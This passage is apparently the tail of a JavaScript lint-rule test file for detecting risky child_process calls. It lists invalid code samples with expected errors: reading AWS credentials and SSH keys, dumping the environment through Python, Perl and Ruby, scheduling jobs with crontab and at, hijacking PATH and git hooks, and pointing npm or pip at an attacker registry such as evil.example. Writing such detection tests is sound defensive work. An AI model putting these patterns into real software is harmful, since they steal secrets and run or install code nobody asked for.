    { code: CP + 'cp.execFileSync("ssh", ["-oProxyCommand=" + __dirname + "/bin/p %h", "host"]);\ncp.execFileSync("find", [".", "-name", "*.md", "-exec", "python3", "tools/x.py", "{}", ";"]);', ...cjs, errors: [cp(1, 12), unread(2, 1), unread(3, 1)] },
    // Hook variables naming a shipped file run it.
    { code: CP + 'const path = require("path");\ncp.execFile("git", ["diff"], { env: { PATH: "/usr/bin:/bin", GIT_EXTERNAL_DIFF: path.join(__dirname, "lib", "difftool") } });\ncp.execFile("git", ["log"], { env: { ["GIT_" + "PAGER"]: "./pager.sh" } });', ...cjs, errors: [cp(1, 12), unread(3, 1), unread(4, 1)] },
    // awk reads its own language: a -f script is foreign, inline text calling system() runs commands.
    { code: CP + 'cp.execFileSync("awk", ["-f", require("path").join(__dirname, "lib", "w.awk"), "/dev/null"]);\ncp.execFileSync("gawk", ["--file=x.awk"]);\ncp.execFileSync("awk", ["BEGIN{system(ENVIRON[\\"C\\"])}"]);\ncp.execSync("mawk \'BEGIN { \\"id\\" | getline u }\'");', ...cjs, errors: [cp(1, 12), foreign(2, 1), foreign(3, 1), unread(4, 1)] },
    // Schedulers run their stdin (or file) later: crontab -, at, batch.
    { code: CP + 'cp.execFileSync("crontab", ["-"], { input: "*/10 * * * * " + job });\ncp.execFileSync("at", ["now + 1 minute"], { input: "sh " + __dirname + "/lib/job\\n" });\ncp.spawnSync("/usr/bin/crontab", [__dirname + "/tab"]);\ncp.execSync("echo x | batch");', ...cjs, errors: [cp(1, 12), unread(2, 1), unread(3, 1), unread(4, 1)] },
    // A package manager told through env to fetch from another registry.
    { code: CP + 'cp.execFile("npm", ["install", "--prefix", dir, "notes-helper"], { env: { PATH: "/usr/bin:/bin", npm_config_registry: "http://192.0.2.10/" } });\ncp.execFile("pnpm", ["add", "x"], { env: { NPM_CONFIG_REGISTRY: mirror } });\ncp.execFileSync("pip", ["install", "x"], { env: { PIP_INDEX_URL: "https://evil.example/simple" } });', ...cjs, errors: [cp(1, 12), unread(2, 1), unread(3, 1), unread(4, 1)] },
    // A PATH that puts a folder the plugin writes (or a relative one) first: the bare-named program is the plugin's.
    { code: CP + 'exports.activate = (ctx) => { cp.execFile("npm", ["--version"], { env: { PATH: ctx.dataDir + ":/usr/bin:/bin" } }); };\nexports.b = (ctx) => cp.spawn("git", ["status"], { env: { PATH: `${ctx.dataDir}/bin:${process.env.PATH}` } });\ncp.spawn("ls", [], { env: { Path: "node_modules/.bin:/usr/bin" } });\ncp.spawn("ls", [], { env: { PATH: "/tmp/x:/usr/bin" } });', ...cjs, errors: [cp(1, 12), unread(2, 31), unread(3, 22), unread(4, 1), unread(5, 1)] },
    // A secret path reaching the program through stdin or an env variable.
    { code: CP + 'const os = require("os"), path = require("path");\ncp.execFileSync("xargs", ["cat"], { input: path.join(os.homedir(), ".aws", "credentials") });\ncp.execSync(\'cat "$F"\', { env: { F: path.join(os.homedir(), ".ssh", "id_ed25519") } });\ncp.exec("tail -n +1 $K", { env: { K: "~/.ss" + "h/id_rsa" } });', ...cjs, errors: [cp(1, 12), secret(3, 1), secret(4, 1), secret(5, 1)] },
    // Another interpreter printing the whole environment.
    { code: CP + 'cp.execFileSync("python3", ["-c", "import os,json;print(json.dumps(dict(os.environ)))"]);\ncp.execFileSync("perl", ["-e", "print map {\\"$_=$ENV{$_}\\\\n\\"} keys %ENV"]);\ncp.execFileSync("ruby", ["-e", "puts ENV.to_h"]);\ncp.execSync("python -c \'import os; print(os.environ.copy())\'");', ...cjs, errors: [cp(1, 12), dump(2, 1), dump(3, 1), dump(4, 1), dump(5, 1)] },
    // process.loadEnvFile is --env-file: in a file that starts programs, what it sets reaches them.
    { code: 'const path = require("path");\nconst { fork } = require("child_process");\nprocess.loadEnvFile(path.join(__dirname, "lib", "runtime.env"));\nfork(path.join(__dirname, "lib", "worker.js"));', ...cjs, errors: [cp(2, 18), { messageId: 'envFile', line: 3, column: 1 }] },
    { code: 'const { loadEnvFile } = require("node:process");\nconst cp = require("child_process");\nloadEnvFile();', ...cjs, errors: [cp(2, 12), { messageId: 'envFile', line: 3, column: 1 }] },
  ],
});
